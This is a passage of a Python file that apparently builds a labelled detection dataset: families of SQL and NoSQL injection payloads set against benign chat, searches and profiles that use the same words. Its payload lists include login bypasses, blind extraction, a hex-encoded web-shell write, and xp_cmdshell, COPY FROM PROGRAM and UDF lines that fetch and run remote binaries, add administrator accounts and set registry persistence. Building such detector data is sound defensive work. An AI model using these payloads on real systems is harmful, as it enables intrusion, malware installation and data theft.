    "1 AND (SELECT LEN(SYSTEM_USER))>2",
    "1' AND CHARINDEX('sa',SYSTEM_USER)=1--",
    # Oracle, including the conditional divide-by-zero error
    "1' AND ASCII(SUBSTR((SELECT user FROM dual),1,1))>80--",
    "1'||(SELECT CASE WHEN SUBSTR(password,1,1)='a' THEN TO_CHAR(1/0) ELSE '' END FROM users WHERE "
    "username='administrator')||'",
    "1' AND LENGTH((SELECT banner FROM v$version WHERE ROWNUM=1))>20--",
    # PostgreSQL
    "1 AND ASCII(SUBSTRING((SELECT current_database()),1,1))=106",
    "1' AND (SELECT length(passwd) FROM pg_shadow LIMIT 1)>30--",
    # SQLite
    "1' AND substr((SELECT sqlite_version()),1,1)='3",
]

# sql-authentication-bypass: what login forms of routers, CMS and admin panels receive all day
AUTH: list[Entry] = [
    # generic login forms (MySQL, SQL Server, SQLite)
    "admin' --",
    "admin' #",
    "' or 1=1--",
    "' or '1'='1'--",
    "admin' or '1'='1",
    "admin\" or \"1\"=\"1",
    "' OR 1=1 LIMIT 1-- -",
    "admin') or ('1'='1'--",
    "') or '1'='1'--",
    "1' or 1=1 or ''='",
    "admin' and 1=1-- ",
    "anything' OR 'x'='x",
    "' or true-- ",
    "a' or 'a'='a",
    "\" or 1=1-- -",
    "admin\"--",
    "admin' or 1=1#",
    "') OR 1=1-- -",
    "' OR 'a'='a' --",
    "admin' OR 1=1;--",
    "admin' AND password LIKE '%'--",
    # a forged row with a known MD5 (md5('admin')) the application compares against (MySQL)
    "' UNION SELECT 1,'admin','21232f297a57a5a743894a0e4a801fc3',1-- -",
    # captured login posts, the whole form (PHP panels, WordPress wp-login.php)
    ("username=admin'--&password=x",) + KV,
    ("username=admin&password=' or '1'='1",) + KV,
    ("user=admin'#&pass=anything&login=Login",) + KV,
    ("log=admin' or 1=1-- -&pwd=x&wp-submit=Log+In",) + KV,
    # JSON login APIs
    ('{"username":"admin\' OR 1=1-- -","password":"x"}',) + JB,
    ('{"email":"admin@example.com\'--","password":"x"}',) + JB,
]

# nosql-injection: MongoDB operators through PHP/Express bracket parameters and JSON, and $where JavaScript
NOSQL: list[Entry] = [
    # bracket operators in a form or query string (PHP, Express qs)
    ("username[$ne]=admin&password[$ne]=x",) + KV,
    ("username=admin&password[$gt]=",) + KV,
    ("user[$regex]=^adm&pass[$ne]=1",) + KV,
    ("login[$nin][]=admin&login[$nin][]=test&pass[$ne]=x",) + KV,
    ("email[$exists]=true&password[$exists]=true",) + KV,
    ("username[$eq]=admin&password[$regex]=^a.*",) + KV,
    ("q[$regex]=.*&q[$options]=si",) + KV,
    ("filter[username][$regex]=.*&filter[password][$ne]=",) + KV,
    ("where[role][$ne]=user",) + KV,
    ("token[$ne]=invalid&id=1",) + KV,
    # whole JSON login documents
    ('{"username":{"$ne":""},"password":{"$ne":""}}',) + JB,
    ('{"username":"admin","password":{"$regex":"^.*"}}',) + JB,
    ('{"username":{"$in":["admin","root","administrator"]},"password":{"$gt":""}}',) + JB,
    ('{"$where":"sleep(5000) || true"}',) + JB,
    ('{"username":"admin","$or":[{},{"a":"a"}],"password":"x"}',) + JB,
    ('{"email":{"$regex":"@"},"password":{"$exists":true}}',) + JB,
    ('{"username":{"$nin":[""]},"password":{"$nin":[""]}}',) + JB,
    ('{"filter":{"$where":"this.password.match(/^a/) && sleep(3000)"}}',) + JB,
    ('{"$expr":{"$function":{"body":"function(){return true}","args":[],"lang":"js"}}}',) + JB,
    # Rocket.Chat getPasswordPolicy token regex (CVE-2021-22911)
    ('{"msg":"method","method":"getPasswordPolicy","params":[{"token":{"$regex":"^a"}}],"id":"1"}',) + JB,
    # $where JavaScript string break-outs (MongoDB server-side JavaScript)
    "' || '1'=='1",
    "';return true;var x='",
    "0;sleep(5000)",
    "'; while(true){}; var x='",
    "admin' && this.password.match(/.*/)//",
    "1' || this.role=='admin' || '1'=='2",
    "';sleep(5000);'",
    # operator objects pasted into a plain field the application JSON-decodes
    "{\"$gt\":\"\"}",
    "true, $where: '1 == 1'",
    "', $or: [ {}, { 'a':'a",
]

# hex-char-encoding: hex, CHAR()/CHR(), base64 and the odd URL encodings bots use to dodge filters
ENCODING: list[Entry] = [
    # MySQL hex literals: a web shell and its path, a user name, a statement
    "1 UNION SELECT 0x3c3f70687020706870696e666f28293b203f3e INTO OUTFILE 0x2f7661722f7777772f68746d6c2f692e706870",
    "1' AND user()=0x726f6f74406c6f63616c686f7374-- -",
    "1 AND UNHEX('726f6f74')=SUBSTRING_INDEX(user(),'@',1)",
    "1 AND X'61646d696e'='admin'",
    "1' AND 'admin'=_binary 0x61646d696e-- -",
    "1 AND 0x31=0x31",
    "1'/**/UNION/**/SELECT/**/0x3a3a,@@version#",
    "1 AND database() LIKE CONCAT(CHAR(119),CHAR(112),CHAR(37))",
    # Havij's marker with the quote closed by a tautology (MySQL)
    "999999.9' union all select 0x31303235343830303536,0x31303235343830303536 and '0'='0",
    # SQL Server: a hex statement run through EXEC, the defacement cursor's UTF-16 CAST form
    "1;DECLARE @x VARCHAR(8000);SET @x=0x73656c65637420404076657273696f6e;EXEC(@x)--",
    "1;DECLARE @S NVARCHAR(4000);SET @S=CAST(0x45005800450043002800270055005000440041005400450020006E0065007700"
    "73002000530045005400200062006F00640079003D0062006F00640079002B00270027003C007300630072006900700074002000"
    "7300720063003D002F002F00630064006E002E006500780061006D0070006C0065002E006E00650074002F006A002E006A007300"
    "3E003C002F007300630072006900700074003E002700270027002900 AS NVARCHAR(4000));EXEC(@S);--",
    "1' AND NCHAR(0x41)+NCHAR(0x42)='AB'--",
    "1' AND CONVERT(char(5),0x61646d696e)='admin'--",
    "'+CHAR(83)+CHAR(69)+CHAR(76)+CHAR(69)+CHAR(67)+CHAR(84)+'",
    # Oracle and PostgreSQL CHR() chains, RAW conversion, dollar quoting, base64
    "' UNION SELECT CHR(97)||CHR(100)||CHR(109)||CHR(105)||CHR(110),NULL FROM dual--",
    "' UNION SELECT CHR(65)||CHR(66),NULL--",
    "1' AND UTL_RAW.CAST_TO_VARCHAR2(HEXTORAW('61646d696e'))='admin'--",
    "1 AND $$a$$=$$a$$",
    "1 AND convert_from(decode('dXNlcg==','base64'),'utf8')=current_user",
    # Magento's base64 "filter" parameter carrying the Shoplift popularity[field_expr] injection
    "cG9wdWxhcml0eVtmcm9tXT0wJnBvcHVsYXJpdHlbdG9dPTMmcG9wdWxhcml0eVtmaWVsZF9leHByXT0wKTtTRVQgQFNBTFQgPSAncnAnOw==",
    # URL encoding applied twice (an application that decodes again)
    "1%2527%2520OR%25201%253D1--",
    "1%27%20AND%20SLEEP(5)%23",
    # IIS %u encoding and overlong UTF-8 quote (ASP / old decoders)
    "1%u0027%u0020or%u00201=1--",
    "1%c0%a7 or 1=1--",
    # Unicode apostrophes SQL Server's best-fit mapping and NFKC normalisation turn into a quote
    "admin\uff07 or 1=1-- -",
    "admin\u02bc or 1=1--",
    # an HTML entity an application decodes before building the query
    "1&#39; or 1=1--",
    "1 AND ASCII(CHAR(114))=114",
]

# stored-procedure-xp-cmdshell: commands through the database (SQL Server worms, PostgreSQL/MySQL/Oracle)
PROC: list[Entry] = [
    # SQL Server: enabling xp_cmdshell, then the worm's first commands
    "';EXEC sp_configure 'show advanced options',1;RECONFIGURE;EXEC sp_configure 'xp_cmdshell',1;RECONFIGURE;--",
    "1;EXEC xp_cmdshell 'whoami'--",
    "';exec master..xp_cmdshell 'powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString("
    "''http://203.0.113.77/p.ps1'')\"';--",
    "';EXEC xp_cmdshell 'certutil -urlcache -split -f http://203.0.113.77/svchost.exe "
    "C:\\Windows\\Temp\\svchost.exe';--",
    "';EXEC xp_cmdshell 'bitsadmin /transfer j /download /priority high http://203.0.113.77/x.exe "
    "%TEMP%\\x.exe';--",
    "';EXEC master.dbo.xp_cmdshell 'cmd /c mshta http://203.0.113.77/k.hta';--",
    "';EXEC xp_cmdshell 'regsvr32 /s /n /u /i:http://203.0.113.77/a.sct scrobj.dll';--",
    "';exec xp_cmdshell 'net user admin$ P@ssw0rd123 /add && net localgroup administrators admin$ /add';--",
    "';EXEC xp_cmdshell 'powershell -c \"iwr http://203.0.113.77/m.exe -OutFile $env:TEMP\\m.exe; "
    "Start-Process $env:TEMP\\m.exe\"';--",
    "1;EXEC('xp_cmd'+'shell ''ping -n 3 203.0.113.77''');--",
    "';EXEC master..xp_cmdshell 'tftp -i 203.0.113.77 GET bot.exe';--",
    "';EXEC master..xp_cmdshell 'cmd.exe /c echo open 203.0.113.77>f&echo user x x>>f&echo get s.exe>>f&"
    "echo bye>>f&ftp -n -s:f&s.exe';--",
    "';EXEC master.dbo.xp_cmdshell 'type C:\\inetpub\\wwwroot\\web.config';--",
    "';exec xp_cmdshell 'echo ^<%eval request(\"c\")%^> > C:\\inetpub\\wwwroot\\c.asp';--",
    # SQL Server: OLE automation, CLR assembly, Agent job, registry, external scripts
    "';EXEC sp_configure 'Ole Automation Procedures',1;RECONFIGURE;--",
    "';DECLARE @o INT;EXEC sp_OACreate 'WScript.Shell',@o OUT;EXEC sp_OAMethod @o,'Run',NULL,'cmd /c whoami > "
    "C:\\inetpub\\wwwroot\\w.txt';--",
    "';CREATE ASSEMBLY x FROM 0x4D5A90000300000004000000FFFF0000 WITH PERMISSION_SET=UNSAFE;--",
    "';EXEC msdb.dbo.sp_add_job @job_name='upd';EXEC msdb.dbo.sp_add_jobstep @job_name='upd',@step_name='s',"
    "@subsystem='CMDEXEC',@command='powershell -enc SQBFAFgA';--",
    "';EXEC xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\\CurrentControlSet\\Services\\MSSQLSERVER','ObjectName';--",
    "';EXEC xp_regwrite 'HKEY_LOCAL_MACHINE','SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run','upd','REG_SZ',"
    "'C:\\Windows\\Temp\\u.exe';--",
    "';EXEC sp_password NULL,'newpass','sa';--",
    "1;EXEC master..xp_servicecontrol 'start','schedule';--",
    "';EXEC sp_execute_external_script @language=N'Python',@script=N'import os;os.system(\"whoami\")';--",
    # PostgreSQL miner dropper through a DO block
    "'; DO $$BEGIN EXECUTE 'COPY x FROM PROGRAM ''curl -fsSL http://203.0.113.77/pg.sh | sh'''; END$$;--",
    # MySQL UDF: sys_exec fetching and running a Mirai-style binary, sys_eval
    "1; CREATE FUNCTION sys_exec RETURNS INT SONAME 'lib_mysqludf_sys.so'; SELECT sys_exec('wget "
    "http://203.0.113.77/x86 -O /tmp/x86; chmod +x /tmp/x86; /tmp/x86');--",
    "1' UNION SELECT sys_eval('id'),2-- -",
    # Oracle: Java wrapper and a scheduler job
    "' UNION SELECT DBMS_JAVA_TEST.FUNCALL('oracle/aurora/util/Wrapper','main','/bin/bash','-c','id'),NULL "
    "FROM dual--",
    "'; BEGIN DBMS_SCHEDULER.CREATE_JOB(job_name=>'J',job_type=>'EXECUTABLE',job_action=>'/usr/bin/curl',"
    "enabled=>TRUE); END;--",
]

# having-group-order-by-probing: column counting and sort-parameter injections
ORDER: list[Entry] = [
    # column count by ORDER BY (generic)
    "1 ORDER BY 1-- -",
    "1 ORDER BY 10-- -",
    "1' ORDER BY 5#",
    "1' order by 3-- -",
    "1 ORDER BY 1,2,3,4,5,6,7,8,9,10,11,12-- -",
    "username' ORDER BY 2-- -",
    "1' ORDER BY 3 DESC#",
    "1 ORDER BY 1-- gDFq",
    "1 GROUP BY 1,2,3-- -",
    "1' GROUP BY 1,2,3,4 WITH ROLLUP-- -",
    # MySQL: column count through LIMIT ... INTO variables
    "1' LIMIT 1 INTO @,@-- -",
    # SQL Server: HAVING errors that name the columns one by one
    "1' HAVING 1=1--",
    "1' GROUP BY users.id HAVING 1=1--",
    "1' GROUP BY users.id,users.username HAVING 1=1--",
    "1 HAVING 1=1",
    "1' GROUP BY password HAVING password LIKE 'a%'-- -",
    # sort-parameter injections: CASE, IF, RAND with a condition (MySQL), a subquery delay (MySQL, PostgreSQL)
    "(CASE WHEN (1=1) THEN name ELSE email END)",
    "name,(SELECT CASE WHEN (ASCII(SUBSTRING(user(),1,1))>100) THEN 1 ELSE 1*(SELECT 1 UNION SELECT 2) END)",
    "IF(1=1,id,name)",
    "id,(SELECT SLEEP(5))",
    "(SELECT 1 FROM pg_sleep(5))",
    "RAND(1=1)",
    "id,EXTRACTVALUE(1,CONCAT(0x5c,user()))",
    "1 ORDER BY (SELECT COUNT(*) FROM users)",
    "(CASE WHEN (SELECT SUBSTRING(password,1,1) FROM users LIMIT 1)='a' THEN id ELSE name END)",
    # SQL Server: a stacked delay after the sort column; Oracle: a conversion error in the CASE
    "name;WAITFOR DELAY '0:0:5'--",
    "1' ORDER BY CASE WHEN (1=1) THEN 1 ELSE TO_NUMBER('x') END--",
    # WordPress plugin list tables: orderby sprayed with a nested sleep, as the captured query string
    ("orderby=(SELECT 1 FROM (SELECT SLEEP(5))a)&order=asc",) + KV,
]

# like-between-in-operators: blind extraction by pattern, range and set membership
OPERATORS: list[Entry] = [
    # MySQL
    "1' AND user() LIKE 'root%'-- -",
    "' OR username LIKE '%'-- -",
    "1 AND database() LIKE 0x77705f25",
    "1' AND (SELECT password FROM users WHERE username='admin') LIKE 'a%'-- -",
    "1 AND ASCII(SUBSTRING(user(),1,1)) BETWEEN 97 AND 122",
    "1' AND MID(version(),1,1) BETWEEN '5' AND '8'-- -",
    "1 AND 1 IN (SELECT 1 FROM users WHERE username='admin')",
    "1' AND 'a' IN ('a','b')-- -",
    "1 OR 1 IN (1)",
    "1' AND SUBSTRING(@@version,1,1) NOT IN ('4','5')-- -",
    "1' AND user() NOT LIKE 'x%'-- -",
    "1' OR 1 BETWEEN 0 AND 2-- -",
    "1' AND (SELECT COUNT(*) FROM wp_users WHERE user_pass LIKE '$P$B%')>0-- -",
    "1' AND user() RLIKE '^r'-- -",
    "1' AND database() REGEXP '^[a-m]'-- -",
    "1' AND (SELECT table_name FROM information_schema.tables WHERE table_name LIKE '%user%' LIMIT 1) IS NOT "
    "NULL-- -",
    "1' AND 'abc' LIKE BINARY 'a%'-- -",
    "1 AND 0x61 IN (0x61)",
    "1 AND (SELECT 1 FROM users WHERE username='admin' AND password BETWEEN 'a' AND 'b')=1",
    "x' OR 'b' BETWEEN 'a' AND 'c",
    "1' OR 2 IN (SELECT 2)-- -",
    # PostgreSQL
    "1' AND current_user ILIKE 'post%'--",
    "1' AND version() SIMILAR TO '%PostgreSQL%'--",
    "1 AND current_database() ~ '^j'",
    # Oracle, SQL Server, SQLite
    "1' AND (SELECT user FROM dual) LIKE 'SYS%'--",
    "1' AND SYSTEM_USER LIKE 'sa'--",
    "1' AND DB_NAME() LIKE '[a-m]%'--",
    "1' AND sqlite_version() GLOB '3.*'--",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("sqli", "libinjection-sqli", LIBINJECTION),
    ("sqli", "sql-tautology-boolean", TAUTOLOGY),
    ("sqli", "sql-comment-sequence", COMMENT),
    ("sqli", "union-select", UNION),
    ("sqli", "stacked-queries", STACKED),
    ("sqli", "time-based-blind", TIME),
    ("sqli", "error-based", ERROR),
    ("sqli", "out-of-band", OOB),
    ("sqli", "information-schema-probing", CATALOG),
    ("sqli", "mysql-comment-obfuscation", MYCOMMENT),
    ("sqli", "function-based-probing", FUNCTION),
    ("sqli", "sql-authentication-bypass", AUTH),
    ("sqli", "nosql-injection", NOSQL),
    ("sqli", "hex-char-encoding", ENCODING),
    ("sqli", "stored-procedure-xp-cmdshell", PROC),
    ("sqli", "having-group-order-by-probing", ORDER),
    ("sqli", "like-between-in-operators", OPERATORS),
]
# the sub-families whose fixed `name=value` entries are captured query strings, sent unquoted
RAW_KV_SUBS = {"stacked-queries", "error-based", "mysql-comment-obfuscation", "sql-authentication-bypass",
               "nosql-injection", "having-group-order-by-probing"}


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    names = ["q", "id", "location", "username", "password", "sort", "city", "search", "user_id", "order"]
    rs_names = ["id", "q", "cat", "item", "pid", "s", "page_id"]
    raw_places = ("form", "rs-param-name")
    unique = True
    path_forbids = "/?#\\"
    xml_controls = "\n\t\r"


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (Slack chat and bios about honeypots, logs, incidents and SQL work,
# searches, admin-panel notes, links to advisories and docs, profiles, uploads, ordinary headers)
CHAT = [
    # the honeypot and its logs
    "the honeypot caught 40k requests overnight, mostly sqlmap and some Mirai-style droppers",
    "anyone want to help label last week's honeypot captures? I exported them to the team drive",
    "funny how many bots still send the Havij union all select marker in 2024",
    "the Acunetix scans against the honeypot all have that if(now()=sysdate()) thing in them",
    "our cowrie box logged a wget of a miner from a Dutch VPS, IP added to the blocklist",
    "turned the Postgres honeypot back on, it got COPY FROM PROGRAM attempts within an hour",
    "the MSSQL honeypot sees xp_cmdshell attempts every few minutes, mostly the same botnet",
    "is anyone else seeing a spike of requests for wp-login.php? we don't even run WordPress",
    "grafana panel for WAF blocks by rule is live, SQL injection is the top category by far",
    "heads up: the access log rotation broke last night, lost about two hours of logs",
    "who owns the honeypot VM? the disk is 95% full of pcap files",
    "sorry for the noise in #alerts, the honeypot was wired to the prod channel by mistake",
    "the scanner traffic drops every weekend, bots take Sundays off apparently",
    "we see a lot of probes for /.env and /wp-config.php.bak, the usual config grabs",
    "the interactsh-style callbacks in the logs are from our own pentest vendor, ticket SEC-212",
    # incidents and reviews
    "postmortem for Tuesday's outage is up, root cause was a slow query holding a lock on users",
    "incident update: the 502s were the upstream, not the WAF, we can close INC-4471",
    "false positive report: a customer named O'Brien couldn't save his profile, checking the logs now",
    "the WAF flagged a weather search for 'Union City', can someone look at the rule hit?",
    "security review notes: all queries in jeeves go through asyncpg with $1 placeholders",
    "the audit found one raw SQL string in the reports job, it's parameterized now",
    "we rotated the Postgres password after the pentest, new one is in the vault",
    "reminder: the gateway blocks requests with the word select in odd places, file a ticket if it bites you",
    "tokendealer had a burst of failed client_credentials grants, looks like a misconfigured CI job",
    "the bug bounty triage queue has three sqli reports, two are scanner output with no proof",
    "we closed the report about the sort parameter, it's whitelisted against column names",
    "the password reset flow uses a random token, not the user id, so that report is invalid",
    # SQL in ordinary engineering chat
    "can someone review my migration? it adds a unique index on users(slack_id)",
    "the slow query log shows a select * from alerts without a where clause, who wrote that",
    "use order by created_at desc limit 50 for the admin list, not offset pagination",
    "TIL Postgres has pg_sleep, handy for testing our statement timeout",
    "the union of the two reports double counts users who have both alerts and a location",
    "group by team having count(*) > 5 gives you the big teams, that's what the dashboard uses",
    "please don't run DROP TABLE in the shared staging db again, we lost everyone's fixtures",
    "the between filter on dates is inclusive at both ends, careful with midnight",
    "like '%weather%' can't use the index, we should add trigram search",
    "information_schema queries are slow on this host, use pg_catalog instead",
    "ran EXPLAIN ANALYZE on the user search, it's a seq scan, adding an index tonight",
    "the ORM emits IN (...) with 2000 ids, we should batch that",
    "vacuum full on the events table took 40 minutes, next time do it off-hours",
    "does anyone know why the benchmark job sleeps 5 seconds between runs?",
    "I replaced the string concat in the export with a prepared statement",
    "the char(36) column for uuids should really be the native uuid type",
    "Mongo is only used by the old analytics service, the $regex queries there are admin-only",
    "the nosql store for sessions is Redis now, Mongo is gone",
    # product chat (Jeeves, the gateway, TokenDealer)
    "jeeves weather for Union City NJ says light rain, good enough",
    "remember location Sleepy Hollow, NY",
    "config units metric",
    "alerts on",
    "the daily alert at 07:30 came late again, the worker was stuck on a slow query",
    "forget me",
    "jeeves help lists eight commands now, the select-a-city one is new",
    "the gateway's /readyz flapped during the Postgres restart, expected",
    "tokendealer's jwks endpoint is cached for five minutes at the edge",
    "the admin search box now supports quotes, try searching for O'Neil",
    "rate limit on /api/users is 60 per minute per token, the benchmark hit it",
    "X-Request-Id from the edge is in every log line, paste it when you report a block",
    # bios
    "Security engineer. Honeypots, log pipelines and the occasional SQL injection write-up.",
    "DBA for 15 years: Oracle, SQL Server, now mostly PostgreSQL. Ask me about execution plans.",
    "Backend dev. I write SQL by hand and I'm not sorry.",
    "Threat intel analyst, I read botnet logs so you don't have to.",
    "Support lead. If the WAF blocked you, send me the request id and I'll check.",
    "Pentester (OSCP). Not here to break things, just to tell you where they break.",
    "Data analyst: group by, having, window functions, repeat.",
    "SRE on the edge team, on call every fourth week",
    "Ex-MSSQL admin, still have nightmares about xp_cmdshell being enabled on prod",
    "I run the company honeypot and the #scanner-noise channel",
    "Weather nerd from Union, NJ. Jeeves tells me when to bring an umbrella.",
    "Product manager for the admin panel, searches and exports",
]

SEARCHES = [
    "o'brien",
    "O'Neil",
    "d'angelo",
    "union",
    "Union City",
    "select",
    "drop",
    "Sleep",
    "benchmark",
    "order",
    "group",
    "Having",
    "admin",
    "root",
    "sa",
    "oracle",
    "postgres",
    "mysql",
    "mongo",
    "honeypot",
    "waf",
    "sql",
    "security team",
    "dba",
    "like",
    "between",
    "in",
    "where",
    "null",
    "char",
    "concat",
    "ascii",
    "sysdate",
    "sleepy hollow",
    "Anne-Marie",
    "jose.garcia@example.org",
    "team:infra",
    "Dr. O'Connor",
    "smith",
    "it's",
]

URLS = [
    "https://dev.mysql.com/doc/refman/8.0/en/information-schema.html",
    "https://www.postgresql.org/docs/current/sql-copy.html",
    "https://www.postgresql.org/docs/current/functions-datetime.html#FUNCTIONS-DATETIME-DELAY",
    "https://learn.microsoft.com/en-us/sql/relational-databases/system-stored-procedures/xp-cmdshell-transact-sql",
    "https://learn.microsoft.com/en-us/sql/t-sql/language-elements/waitfor-transact-sql",
    "https://owasp.org/www-community/attacks/SQL_Injection",
    "https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html",
    "https://cheatsheetseries.owasp.org/cheatsheets/Query_Parameterization_Cheat_Sheet.html",
    "https://nvd.nist.gov/vuln/detail/CVE-2017-8917",
    "https://nvd.nist.gov/vuln/detail/CVE-2016-10134",
    "https://www.mongodb.com/docs/manual/reference/operator/query/where/",
    "https://www.mongodb.com/docs/manual/reference/operator/query/regex/",
    "https://github.com/sqlmapproject/sqlmap/wiki/Usage",
    "https://github.com/cowrie/cowrie",
    "https://www.honeynet.org/projects/",
    "https://docs.oracle.com/en/database/oracle/oracle-database/19/arpls/UTL_HTTP.html",
    "https://www.sqlite.org/lang_attach.html",
    "https://mariadb.com/kb/en/extractvalue/",
    "https://blog.example.com/2024/03/what-our-honeypot-saw-in-february",
    "https://status.example.com/incidents/inc-4471",
]

PROSE = [
    "Customer O'Brien reports his profile save fails with a 403; request id attached in the ticket.",
    "Search for users in Union City with alerts enabled and export to CSV.",
    "Honeypot report for March: 1.2M requests, 61% SQL injection probes, top source AS is a hosting provider.",
    "Please select the users who signed up between 1 May and 31 May and send them the survey.",
    "Order the admin list by last login, newest first; group by team if possible.",
    "Incident INC-4471: upstream timeouts between 02:10 and 02:40 UTC, WAF not involved.",
    "Note: the DBA asked us not to run long selects on the primary during business hours.",
    "Customer asked why their bot's User-Agent 'sqlmap' is blocked; explained it's a scanner signature.",
    "Find accounts where the email is like %@example.org and the role is admin.",
    "Reviewed the drop-off in alert sign-ups: most users who leave never set a location.",
    "Requested by legal: delete the user and all of their alerts (forget me) within 30 days.",
    "The weekly benchmark of the search endpoint shows p95 at 120 ms, up from 90.",
    "Post-incident action: add a statement timeout of 5 s to the reporting role.",
    "Honeypot IOCs for the sharing group: 203.0.113.50 and 203.0.113.77, both dropping miners.",
    "User complains the WAF blocked her bio, which mentions she is a SQL Server DBA. Escalated to the edge team.",
    "Having trouble finding the user who reported the bug; searched by name, email and Slack id.",
    "Search: customers in Sleepy Hollow and Union, NJ who have the morning alert on",
    "Password reset requested for sa.ops@example.org; identity verified over the phone.",
    "Union representatives' accounts need the read-only role, per HR.",
    "Exported the list of admins: 14 users, two of them inactive since January.",
    "The pentest retest confirmed the order-by finding is fixed; closing SEC-198.",
    "Audit: the support team can search users but cannot export or delete.",
    "Account merge: 'Anne-Marie Dubois' and 'Anne Marie Dubois' are the same person.",
    "Ticket from a user whose company is called Select Logistics; their sign-up was rejected, investigating.",
    "Weather alerts for Paris and Berlin were sent twice on Monday, duplicate worker run.",
    "Honeypot: the MSSQL sensor logged 3,400 login attempts for 'sa' and a handful of xp_cmdshell tries.",
    "Updated the runbook: how to find a blocked request by its X-Request-Id in the gateway logs.",
    "Please check whether the null email rows from the old import still exist.",
    "Looked up the user by Slack id U04ABCD12; location set to 'Between Towns Road, Cowley'.",
    "The CSV import failed on a name with an apostrophe (D'Souza); fixed in 2.4.1.",
    "Sort order for the team page should be by name ascending, then by join date.",
    "Monthly report: top rule hits were SQL injection probes and scanners for .env files.",
    "We do not use MongoDB in this product; the $where probes in the logs are just bots.",
    "Reminder for on-call: honeypot alerts go to #scanner-noise, not to the pager.",
    "Customer's IT asked which IP ranges the weather alerts come from; sent the egress list.",
]

PROFILES = [
    ("Liam O'Brien", "12 Union Street, Aberdeen"),
    ("Siobhan O'Neil", "4 Sleepy Hollow Rd, Tarrytown, NY"),
    ("Marco D'Angelo", "Via Roma 1, Torino"),
    ("Grace Oracle-Smith", "Benchmark House, 8 Mill Lane, Leeds"),
    ("Ada Select", "Select Logistics, 22 Dock Road, Liverpool"),
    ("Tom Null", "3 Between Towns Rd, Oxford"),
    ("Priya Sharma", "Union City, NJ 07087"),
    ("Jean-Luc Dubois", "14 rue de l'Union, Lyon"),
    ("Ravi Char", "Order Lane 9, Bangalore"),
    ("Nora Group", "Having Farm, Kent"),
    ("Hannah Schmidt", "Unionstraße 5, Berlin"),
    ("Kenji Sato", "1-2-3 Shibuya, Tokyo"),
    ("Maria Garcia", "Calle de la Unión 7, Madrid"),
    ("Sam Drop", "The Old Dairy, Sleepers Hill, Winchester"),
    ("Fatima Al-Sayed", "Like Street 11, Cairo"),
    ("Conor MacSleep", "Glenwhere, Co. Mayo"),
    ("Wei Zhang", "88 Union Road, Shanghai"),
    ("Olivia Where", "5 Select Place, Dublin"),
    ("Ethan Concat", "19 Ascii Close, Reading"),
    ("Zoe Mongo", "Hotel Sysdate, 2 Harbour St, Cork"),
]

UPLOAD_NAMES = [
    "honeypot_captures_2024-03.csv",
    "sql_injection_training_slides.pdf",
    "users_export_union_city.csv",
    "select_committee_members.xlsx",
    "waf_false_positives_obrien.txt",
    "slow_query_log_2024-05-02.txt",
    "incident INC-4471 timeline.docx",
    "postgres_copy_import.csv",
    "team roster (group by dept).xlsx",
    "benchmark_results_sleep5.json",
    "mssql_migration_plan_v2.pdf",
    "O'Brien contract.pdf",
    "information_schema_diagram.png",
    "order_by_fix_SEC-198.diff",
    "drop-in users list.csv",
]

BENIGN_HEADERS = [
    ("Referer", "https://www.google.com/search?q=postgres+copy+from+program+security"),
    ("Referer", "https://stackoverflow.com/questions/60174/how-can-i-prevent-sql-injection-in-php"),
    ("Referer", "https://app.example.com/admin/users/search?q=o%27brien"),
    ("Referer", "https://duckduckgo.com/?q=union+city+weather"),
    ("Referer", "https://github.com/cowrie/cowrie/issues"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Request-Id", "honeypot-report-2024-03-31.001"),
    ("Accept-Language", "en-US,en;q=0.8,ga;q=0.5"),
    ("Cookie", "session=abc123; sort=last_login; order=desc"),
    ("Cookie", "session=abc123; last_search=o%27neil; tz=America%2FNew_York"),
    ("Cookie", "session=abc123; city=Union%20City; units=metric"),
    ("Cookie", "session=abc123; group=infra; page_size=100"),
    ("If-None-Match", "W/\"7a1c-19d2f4a0\""),
    ("If-Modified-Since", "Wed, 21 Feb 2024 07:28:00 GMT"),
    ("X-Forwarded-For", "203.0.113.24"),
    ("Cache-Control", "no-cache"),
    ("DNT", "1"),
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.4 Safari/605.1.15"),
    ("User-Agent", "curl/8.5.0"),
    ("User-Agent", "python-httpx/0.27.0"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
